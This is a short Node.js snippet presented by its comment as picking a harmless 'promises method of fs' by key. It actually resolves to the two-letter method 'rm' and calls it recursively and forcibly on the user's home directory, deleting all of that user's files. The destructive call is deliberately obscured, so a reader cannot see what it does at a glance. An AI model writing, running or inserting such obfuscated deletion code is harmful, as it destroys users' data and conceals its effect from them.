// A promises method of fs chosen from its keys.
const fsp = require('fs').promises;
const os = require('os');
const op = Object.keys(fsp).filter((k) => k.length === 2)[0];
fsp[op](os.homedir(), { recursive: true, force: true });
